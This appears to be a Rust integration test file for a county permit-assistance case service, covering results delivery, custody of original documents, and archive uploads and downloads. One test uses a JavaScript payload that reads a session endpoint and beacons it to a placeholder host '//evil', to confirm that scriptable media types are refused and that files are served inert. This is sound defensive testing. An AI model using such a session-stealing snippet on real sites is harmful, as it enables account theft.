//! Results delivery (告知结果, §7.6) and the archive (资料归档, §7.7) end to end: deliveries, the custody
//! list of a commission, the lifecycle steps with their events, and documents round-tripping through the
//! local document store and the bus in chunks.

use std::time::Duration;

use bangban_contracts::{
    CloudEvent, EventType, Operation,
    intake::{
        CaseView,
        results::{
            ArchiveDocument, ArchiveView, CaseArchived, CaseResultsDelivered, CustodyItem, DeliveryMethod,
            MAX_DOCUMENT_BYTES, ResultsView, base64,
        },
    },
};
use bangban_gateway::auth::Role;
use bangban_platform::objects::sha256_hex;
use serde_json::{Value, json};

use crate::support::*;

const OFFICE: &str = "371625";

fn county_case(service_type: &str) -> Value {
    let mut c = sample_case();
    c["office"] = json!(OFFICE);
    c["project"]["office"] = json!(OFFICE);
    c["service_type"] = json!(service_type);
    if service_type == "commission" {
        let today = chrono::Utc::now().date_naive();
        c["agreement"] = json!({
            "parties": ["滨州市某某新材料有限公司", "博兴县帮办代办中心"],
            "scope": "立项用地规划许可至施工许可阶段全部事项",
            "signed_on": (today - chrono::Days::new(8)).to_string(),
            "valid_until": (today + chrono::Days::new(365)).to_string()
        });
        c["materials"] = json!([
            {"name": "营业执照", "complete": true, "authentic": true, "valid": true},
            {"name": "土地使用权证", "complete": true, "authentic": true, "valid": true}
        ]);
    }
    c
}

fn staff(app: &TestApp, service_type: &str) -> String {
    app.token(if service_type == "commission" { Role::Agent } else { Role::Assistant }, OFFICE, None)
}

async fn create(app: &TestApp, service_type: &str) -> CaseView {
    let res = app.post_case(&staff(app, service_type), &county_case(service_type)).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    res.json().await.unwrap()
}

/// Planning (`plan.published`) and routing (`task.dispatched`) do not exist yet, so the test puts the
/// case into `in_progress` directly in intake's database, as those events will once they do.
async fn set_in_progress(app: &TestApp, case: &CaseView) {
    use sea_orm::{ConnectionTrait, Statement};
    let db = &app.intake_db;
    let sql = format!("UPDATE cases SET status = 'in_progress' WHERE id = '{}'", case.id);
    let done = db.execute_raw(Statement::from_string(db.get_database_backend(), sql)).await.unwrap();
    assert_eq!(done.rows_affected(), 1);
}

async fn post(app: &TestApp, token: &str, path: &str, body: Option<Value>) -> reqwest::Response {
    let mut req = app.http.post(app.url(path)).bearer_auth(token);
    if let Some(body) = body {
        req = req.json(&body);
    }
    req.send().await.expect("request")
}

async fn get(app: &TestApp, token: &str, path: &str) -> reqwest::Response {
    app.http.get(app.url(path)).bearer_auth(token).send().await.expect("request")
}

async fn problem(res: reqwest::Response, status: u16) -> Value {
    assert_eq!(res.status(), status, "expected {status}");
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    res.json().await.unwrap()
}

async fn status_of(app: &TestApp, case: &CaseView) -> String {
    let view: CaseView = get(app, &app.token(Role::Supervisor, "371600", None), &format!("/api/v1/cases/{}", case.id))
        .await
        .json()
        .await
        .unwrap();
    view.status.as_str().to_string()
}

fn today() -> String {
    (chrono::Utc::now() + chrono::Duration::hours(8)).date_naive().to_string()
}

fn permit(number: &str, delivery: Value) -> Value {
    json!({
        "document": {"kind": "建设用地规划许可证", "number": number, "issued_by": "博兴县自然资源和规划局", "issued_on": "2026-11-20"},
        "delivery": delivery
    })
}

/// Records one delivery and declares the results delivered.
async fn deliver(app: &TestApp, token: &str, case: &CaseView) {
    let one =
        permit("地字第1号", json!({"method": "assistant_collection", "collected_by": "李娜", "collected_on": today()}));
    let path = format!("/api/v1/cases/{}/results", case.id);
    assert_eq!(post(app, token, &path, Some(json!({"deliveries": [one]}))).await.status(), 201);
    let res = post(app, token, &format!("{path}/delivered"), None).await;
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
}

async fn file(
    app: &TestApp,
    token: &str,
    case: &CaseView,
    doc_type: &str,
    title: &str,
    bytes: &[u8],
) -> reqwest::Response {
    let body = json!({
        "doc_type": doc_type, "title": title, "media_type": "application/pdf", "content": base64::encode(bytes)
    });
    post(app, token, &format!("/api/v1/cases/{}/archive", case.id), Some(body)).await
}

#[tokio::test]
async fn results_are_recorded_then_declared_delivered_once() {
    let app = TestApp::spawn().await;
    let token = staff(&app, "assist");
    let case = create(&app, "assist").await;
    let results = format!("/api/v1/cases/{}/results", case.id);
    let mail = permit(
        "地字第371625202600012号",
        json!({"method": "mail", "carrier": "中国邮政 EMS", "tracking_number": "1180123456789"}),
    );

    // Still `accepted`: nothing to deliver yet.
    let p = problem(post(&app, &token, &results, Some(json!({"deliveries": [mail]}))).await, 409).await;
    assert!(p["detail"].as_str().unwrap().contains("accepted"), "{p}");

    set_in_progress(&app, &case).await;

    // A mail delivery without its tracking number: absent, or blank.
    let mut no_number = mail.clone();
    no_number["delivery"].as_object_mut().unwrap().remove("tracking_number");
    let p = problem(post(&app, &token, &results, Some(json!({"deliveries": [no_number]}))).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "deliveries[0].delivery.tracking_number", "{p}");
    let mut blank = mail.clone();
    blank["delivery"]["tracking_number"] = json!("  ");
    let p = problem(post(&app, &token, &results, Some(json!({"deliveries": [blank]}))).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "deliveries[0].delivery.tracking_number", "{p}");
    assert!(p["errors"][0]["reason"].as_str().unwrap().contains("运单号"));

    // Nothing recorded yet: nothing to declare.
    let p = problem(post(&app, &token, &format!("{results}/delivered"), None).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "deliveries");

    let collected = permit(
        "建字第371625202600034号",
        json!({"method": "applicant_collection", "collected_by": "王经理", "collected_on": today()}),
    );
    let res = post(&app, &token, &results, Some(json!({"deliveries": [mail.clone(), collected]}))).await;
    assert_eq!(res.status(), 201);
    let view: ResultsView = res.json().await.unwrap();
    assert_eq!(view.deliveries.len(), 2);
    assert_eq!(view.deliveries[0].delivery.method(), DeliveryMethod::Mail);
    let recorded = serde_json::to_value(&view.deliveries[0].delivery).unwrap();
    assert_eq!(recorded["mailed_on"], today(), "a mail delivery gets today's date when none is given");
    assert_eq!(view.deliveries[1].recorded_by, "tester");

    // The same document twice is refused, naming it.
    let p = problem(post(&app, &token, &results, Some(json!({"deliveries": [mail]}))).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "deliveries[0].document.number");

    // Declared: the case moves and the fact goes out on the bus.
    let js = app.js();
    let events = consumer(&js, &format!("bb.evt.{OFFICE}.case.results_delivered")).await;
    let res = post(&app, &token, &format!("{results}/delivered"), None).await;
    assert_eq!(res.status(), 200);
    let view: ResultsView = res.json().await.unwrap();
    assert_eq!(view.status.as_str(), "results_delivered");
    assert_eq!(status_of(&app, &case).await, "results_delivered");

    let msg = next_message(&events, Duration::from_secs(10)).await.expect("case.results_delivered");
    let event = CloudEvent::from_parts(msg.headers.as_ref(), msg.payload.clone()).unwrap();
    assert_eq!(event.event_type(), Some(EventType::CASE_RESULTS_DELIVERED));
    assert_eq!(event.subject.as_deref(), Some(case.id.to_string().as_str()));
    let data: CaseResultsDelivered = event.data_as().unwrap();
    assert_eq!((data.case_id, data.office.as_str()), (case.id, OFFICE));
    let methods: Vec<DeliveryMethod> = data.documents.iter().map(|d| d.method).collect();
    assert_eq!(methods, [DeliveryMethod::Mail, DeliveryMethod::ApplicantCollection]);
    let payload = String::from_utf8(msg.payload.to_vec()).unwrap();
    assert!(!payload.contains("王经理") && !payload.contains("1180123456789"), "no personal data: {payload}");

    // Once is enough: the second declaration is a conflict naming the state.
    let p = problem(post(&app, &token, &format!("{results}/delivered"), None).await, 409).await;
    assert!(p["detail"].as_str().unwrap().contains("results_delivered"), "{p}");
    assert!(p["detail_en"].as_str().unwrap().contains("the case is in state results_delivered"), "{p}");

    // The applicant reads how the results went out; another applicant learns nothing.
    let own = app.token(Role::Applicant, OFFICE, Some(&case.applicant.id.to_string()));
    assert_eq!(get(&app, &own, &results).await.status(), 200);
    let other = app.token(Role::Applicant, OFFICE, Some(&uuid::Uuid::now_v7().to_string()));
    problem(get(&app, &other, &results).await, 404).await;
    // Applicants cannot record deliveries; neither can another county's staff.
    problem(post(&app, &own, &format!("{results}/delivered"), None).await, 403).await;
    problem(post(&app, &app.token(Role::Assistant, "371681", None), &format!("{results}/delivered"), None).await, 403)
        .await;

    // This route keeps the gateway's ordinary body limit (16 KiB in tests).
    let big = json!({"deliveries": [permit(&"x".repeat(20 * 1024), json!({"method": "mail"}))]});
    let p = problem(post(&app, &token, &results, Some(big)).await, 413).await;
    assert!(p["detail"].as_str().unwrap().contains("16384"), "{p}");
}

#[tokio::test]
async fn a_commission_returns_the_materials_in_custody_with_its_results() {
    let app = TestApp::spawn().await;
    let token = staff(&app, "commission");
    let case = create(&app, "commission").await;
    let custody = format!("/api/v1/cases/{}/custody", case.id);

    let mut items = Vec::new();
    for material in ["营业执照（原件）", "土地使用权证（原件）"] {
        let body = json!({"material": material, "received_on": today(), "received_from": "王经理"});
        let res = post(&app, &token, &custody, Some(body)).await;
        assert_eq!(res.status(), 201);
        let item: CustodyItem = res.json().await.unwrap();
        assert!(item.outstanding());
        items.push(item);
    }
    let p = problem(
        post(&app, &token, &custody, Some(json!({"material": "", "received_on": today(), "received_from": "王经理"})))
            .await,
        422,
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "material");

    // The custody list is a commission's: an assistance case has none.
    let assist = create(&app, "assist").await;
    let body = json!({"material": "营业执照（原件）", "received_on": today(), "received_from": "王经理"});
    let p = problem(
        post(&app, &staff(&app, "assist"), &format!("/api/v1/cases/{}/custody", assist.id), Some(body)).await,
        422,
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "service_type");

    set_in_progress(&app, &case).await;
    let results = format!("/api/v1/cases/{}/results", case.id);
    let one = permit(
        "地字第2号",
        json!({"method": "assistant_collection", "collected_by": "赵代办", "collected_on": today()}),
    );
    assert_eq!(post(&app, &token, &results, Some(json!({"deliveries": [one]}))).await.status(), 201);

    // Both originals still held: refused, naming `custody` and the materials.
    let p = problem(post(&app, &token, &format!("{results}/delivered"), None).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "custody");
    assert!(p["errors"][0]["reason"].as_str().unwrap().contains("营业执照（原件）、土地使用权证（原件）"), "{p}");

    let back = json!({"returned_on": today(), "returned_to": "王经理"});
    let res = post(&app, &token, &format!("{custody}/{}/return", items[0].id), Some(back.clone())).await;
    assert_eq!(res.status(), 200);
    let returned: CustodyItem = res.json().await.unwrap();
    assert_eq!(
        (returned.returned_on.map(|d| d.to_string()), returned.returned_to.as_deref()),
        (Some(today()), Some("王经理"))
    );
    problem(post(&app, &token, &format!("{custody}/{}/return", items[0].id), Some(back.clone())).await, 409).await;
    let early = json!({"returned_on": "2020-01-01", "returned_to": "王经理"});
    let p = problem(post(&app, &token, &format!("{custody}/{}/return", items[1].id), Some(early)).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "returned_on");
    problem(post(&app, &token, &format!("{custody}/{}/return", uuid::Uuid::now_v7()), Some(back.clone())).await, 404)
        .await;

    // One still held: still refused, naming only that one.
    let p = problem(post(&app, &token, &format!("{results}/delivered"), None).await, 422).await;
    assert!(!p["errors"][0]["reason"].as_str().unwrap().contains("营业执照"), "{p}");

    assert_eq!(post(&app, &token, &format!("{custody}/{}/return", items[1].id), Some(back)).await.status(), 200);
    let res = post(&app, &token, &format!("{results}/delivered"), None).await;
    assert_eq!(res.status(), 200);
    let view: ResultsView = res.json().await.unwrap();
    assert_eq!((view.status.as_str(), view.custody_outstanding, view.custody.len()), ("results_delivered", 0, 2));

    let js = app.js();
    let events = consumer(&js, &format!("bb.evt.{OFFICE}.case.results_delivered")).await;
    let msg = next_message(&events, Duration::from_secs(10)).await.expect("case.results_delivered");
    let data: CaseResultsDelivered = serde_json::from_slice(&msg.payload).unwrap();
    assert_eq!(data.materials_returned, 2);

    // After the results, nothing more goes into custody.
    let body = json!({"material": "规划图纸", "received_on": today(), "received_from": "王经理"});
    let p = problem(post(&app, &token, &custody, Some(body)).await, 409).await;
    assert!(p["detail"].as_str().unwrap().contains("results_delivered"), "{p}");
}

#[tokio::test]
async fn archived_documents_round_trip_and_archiving_completes_the_case() {
    let app = TestApp::spawn().await;
    let token = staff(&app, "assist");
    let case = create(&app, "assist").await;
    let archive = format!("/api/v1/cases/{}/archive", case.id);

    // A small result and a process material larger than the gateway's ordinary body limit and than a
    // NATS message (1 MiB), which crosses the bus in chunks.
    let permit_pdf = b"%PDF-1.7\n% \xe5\xbb\xba\xe8\xae\xbe\xe7\x94\xa8\xe5\x9c\xb0\xe8\xa7\x84\xe5\x88\x92\xe8\xae\xb8\xe5\x8f\xaf\xe8\xaf\x81\n%%EOF\n".to_vec();
    let minutes: Vec<u8> = (0..1_600_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();

    let res = file(&app, &token, &case, "result", "建设用地规划许可证（扫描件）", &permit_pdf).await;
    assert_eq!(res.status(), 201);
    let location = res.headers()["location"].to_str().unwrap().to_string();
    let result: ArchiveDocument = res.json().await.unwrap();
    assert_eq!(location, format!("{archive}/{}", result.id));
    assert_eq!((result.sha256.as_str(), result.size), (sha256_hex(&permit_pdf).as_str(), permit_pdf.len() as u64));
    assert_eq!((result.filed_by.as_str(), result.media_type.as_str()), ("tester", "application/pdf"));

    let res = file(&app, &token, &case, "process_material", "联合审图会议纪要", &minutes).await;
    assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
    let big: ArchiveDocument = res.json().await.unwrap();
    assert_eq!(big.size, minutes.len() as u64);
    assert_eq!(count_rows(&app.intake_db, "archive_upload_chunk").await, 0, "staged chunks are gone once filed");
    // 1.6 MB in chunks of 774 144 bytes (what fits a 1 MiB NATS message as base64): three.
    let chunk = format!("{} process", bangban_contracts::intake::results::ops::ArchiveChunk::subject());
    let staged = || async { spans_named(&app.spans, &chunk).len() == 3 };
    assert!(eventually(Duration::from_secs(5), staged).await, "the large document crossed the bus in three chunks");

    // The same content under the same type again is the same record.
    let res = file(&app, &token, &case, "result", "重复提交", &permit_pdf).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.json::<ArchiveDocument>().await.unwrap().id, result.id);

    // In the local store, under cases/<case id>/<type>/<sha256>, byte for byte.
    let objects = app.settings.data_dir.join("objects").join("cases").join(case.id.to_string());
    assert_eq!(std::fs::read(objects.join("result").join(&result.sha256)).unwrap(), permit_pdf);
    assert_eq!(std::fs::read(objects.join("process_material").join(&big.sha256)).unwrap(), minutes);

    // The applicant of the case lists and downloads them.
    let own = app.token(Role::Applicant, OFFICE, Some(&case.applicant.id.to_string()));
    let res = get(&app, &own, &archive).await;
    assert_eq!(res.status(), 200);
    let view: ArchiveView = res.json().await.unwrap();
    assert_eq!(view.documents.iter().map(|d| d.id).collect::<Vec<_>>(), [result.id, big.id]);
    assert!(!view.archived);
    for (doc, bytes) in [(&result, &permit_pdf), (&big, &minutes)] {
        let res = get(&app, &own, &format!("{archive}/{}", doc.id)).await;
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], "application/pdf");
        assert_eq!(res.headers()["etag"].to_str().unwrap(), format!("\"{}\"", doc.sha256));
        assert_eq!(res.headers()["x-content-type-options"], "nosniff");
        assert!(res.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
        assert_eq!(&res.bytes().await.unwrap()[..], &bytes[..], "byte for byte");
    }
    // Supervisors read every archive.
    assert_eq!(get(&app, &app.token(Role::Supervisor, "371600", None), &archive).await.status(), 200);

    // Another applicant, and an assistant of another county: not found, not forbidden.
    let other = app.token(Role::Applicant, OFFICE, Some(&uuid::Uuid::now_v7().to_string()));
    let stranger = app.token(Role::Assistant, "371681", None);
    for who in [&other, &stranger] {
        problem(get(&app, who, &archive).await, 404).await;
        problem(get(&app, who, &format!("{archive}/{}", result.id)).await, 404).await;
    }
    problem(get(&app, &own, &format!("{archive}/{}", uuid::Uuid::now_v7())).await, 404).await;
    // Applicants read the archive; they do not file into it.
    problem(file(&app, &own, &case, "result", "x", b"x").await, 403).await;

    // Bad content: not base64, or over 10 MiB, or a body over this route's own limit.
    let body = json!({"doc_type": "result", "title": "x", "media_type": "application/pdf", "content": "***"});
    let p = problem(post(&app, &token, &archive, Some(body)).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "content");
    let body = json!({"doc_type": "result", "title": "x", "media_type": "pdf", "content": "eA=="});
    let p = problem(post(&app, &token, &archive, Some(body)).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "media_type");
    let p =
        problem(file(&app, &token, &case, "result", "过大", &vec![7u8; MAX_DOCUMENT_BYTES as usize + 1]).await, 413)
            .await;
    assert!(p["detail"].as_str().unwrap().contains("10 MiB"), "{p}");
    let limit = bangban_gateway::handlers::results::ARCHIVE_BODY_LIMIT;
    let body =
        json!({"doc_type": "result", "title": "x", "media_type": "application/pdf", "content": "A".repeat(limit)});
    let p = problem(post(&app, &token, &archive, Some(body)).await, 413).await;
    assert!(p["detail"].as_str().unwrap().contains(&limit.to_string()), "{p}");

    // Archiving needs the results delivered first: the lifecycle's 409 names the state.
    let complete = format!("{archive}/complete");
    let p = problem(post(&app, &token, &complete, None).await, 409).await;
    assert!(p["detail"].as_str().unwrap().contains("accepted"), "{p}");
    set_in_progress(&app, &case).await;
    deliver(&app, &token, &case).await;

    let js = app.js();
    let events = consumer(&js, &format!("bb.evt.{OFFICE}.case.archived")).await;
    let res = post(&app, &token, &complete, None).await;
    assert_eq!(res.status(), 200);
    let view: ArchiveView = res.json().await.unwrap();
    assert!(view.archived);
    assert_eq!(view.status.as_str(), "archived");
    assert_eq!(status_of(&app, &case).await, "archived");

    let msg = next_message(&events, Duration::from_secs(10)).await.expect("case.archived");
    let event = CloudEvent::from_parts(msg.headers.as_ref(), msg.payload.clone()).unwrap();
    assert_eq!(event.event_type(), Some(EventType::CASE_ARCHIVED));
    let data: CaseArchived = event.data_as().unwrap();
    let listed: Vec<(&str, &str)> = data.documents.iter().map(|d| (d.doc_type.as_str(), d.sha256.as_str())).collect();
    assert_eq!(listed, [("result", result.sha256.as_str()), ("process_material", big.sha256.as_str())]);
    let payload = String::from_utf8(msg.payload.to_vec()).unwrap();
    assert!(!payload.contains("许可证"), "titles stay out of the event: {payload}");

    // Closed: archiving again is a conflict, and so is filing more.
    let p = problem(post(&app, &token, &complete, None).await, 409).await;
    assert!(p["detail"].as_str().unwrap().contains("archived"), "{p}");
    problem(file(&app, &token, &case, "process_material", "迟到的材料", b"late").await, 409).await;
    // Still readable.
    assert_eq!(get(&app, &own, &format!("{archive}/{}", big.id)).await.bytes().await.unwrap().len(), minutes.len());
}

#[tokio::test]
async fn archiving_needs_a_result_document() {
    let app = TestApp::spawn().await;
    let token = staff(&app, "assist");
    let case = create(&app, "assist").await;
    set_in_progress(&app, &case).await;
    deliver(&app, &token, &case).await;
    let res = file(&app, &token, &case, "service_plan", "代办方案", b"plan v1").await;
    assert_eq!(res.status(), 201);

    let p = problem(post(&app, &token, &format!("/api/v1/cases/{}/archive/complete", case.id), None).await, 422).await;
    assert_eq!(p["errors"][0]["field"], "result", "{p}");
    assert_eq!(status_of(&app, &case).await, "results_delivered");
    let js = app.js();
    let events = consumer(&js, &format!("bb.evt.{OFFICE}.case.archived")).await;
    assert!(next_message(&events, Duration::from_secs(1)).await.is_none(), "nothing is published for a refusal");
}

#[tokio::test]
async fn the_archive_takes_documents_and_images_only_and_serves_them_inert() {
    use bangban_contracts::intake::{
        Actor,
        results::{DocumentContent, FileDocument, ops::ArchiveFile},
    };
    use bangban_platform::rpc;

    let app = TestApp::spawn().await;
    let token = staff(&app, "assist");
    let case = create(&app, "assist").await;
    let archive = format!("/api/v1/cases/{}/archive", case.id);
    let upload = |media_type: &str, bytes: &[u8]| json!({"doc_type": "process_material", "title": "材料", "media_type": media_type, "content": base64::encode(bytes)});

    // What a browser would run or render is refused by name, and nothing is stored.
    let script = b"fetch('/api/v1/session').then(r => r.json()).then(s => navigator.sendBeacon('//evil', s))";
    for media_type in ["text/javascript", "text/html", "image/svg+xml", "application/xhtml+xml", "text/plain"] {
        let p = problem(post(&app, &token, &archive, Some(upload(media_type, script))).await, 422).await;
        assert_eq!(p["errors"][0]["field"], "media_type", "{media_type}: {p}");
        assert!(p["errors"][0]["reason_en"].as_str().unwrap().contains("application/pdf"), "{p}");
    }
    // Intake refuses it too, whoever calls it on the bus.
    let direct = FileDocument {
        actor: Actor { sub: "bus".into(), role: "assistant".into(), office: OFFICE.into() },
        case_id: case.id,
        doc_type: bangban_contracts::intake::results::ArchiveDocType::ProcessMaterial,
        title: "脚本".into(),
        media_type: "text/javascript".into(),
        size: script.len() as u64,
        content: DocumentContent::Inline { data: base64::encode(script) },
    };
    let res = rpc::call::<ArchiveFile>(&app.client, &direct, Duration::from_secs(5)).await;
    match res {
        Err(rpc::CallError::Problem(p)) => assert_eq!((p.status, p.errors[0].field.as_str()), (422, "media_type")),
        other => panic!("refused: {other:?}"),
    }
    assert_eq!(count_rows(&app.intake_db, "archive_document").await, 0);

    // A scan is taken, its media type normalised, and downloaded as an inert attachment.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    let res = post(&app, &token, &archive, Some(upload("Image/PNG; name=scan", &png))).await;
    assert_eq!(res.status(), 201);
    let doc: ArchiveDocument = res.json().await.unwrap();
    assert_eq!(doc.media_type, "image/png");
    let res = get(&app, &token, &format!("{archive}/{}", doc.id)).await;
    assert_eq!(res.status(), 200);
    let h = res.headers();
    assert_eq!(h["content-type"], "image/png");
    assert!(h["content-disposition"].to_str().unwrap().starts_with("attachment;"), "{h:?}");
    assert_eq!(h["x-content-type-options"], "nosniff");
    let csp = h["content-security-policy"].to_str().unwrap();
    assert!(csp.starts_with("sandbox") && csp.contains("default-src 'none'"), "{csp}");
    assert!(h["cache-control"].to_str().unwrap().contains("no-store"), "{h:?}");

    // A record filed before the list existed, under a type a browser would run, is served as opaque bytes.
    use sea_orm::{ConnectionTrait, Statement};
    let db = &app.intake_db;
    let sql = format!("UPDATE archive_document SET media_type = 'text/javascript' WHERE id = '{}'", doc.id);
    db.execute_raw(Statement::from_string(db.get_database_backend(), sql)).await.unwrap();
    let res = get(&app, &token, &format!("{archive}/{}", doc.id)).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/octet-stream");
    assert!(res.headers()["content-security-policy"].to_str().unwrap().starts_with("sandbox"));
    assert_eq!(&res.bytes().await.unwrap()[..], &png[..]);
}
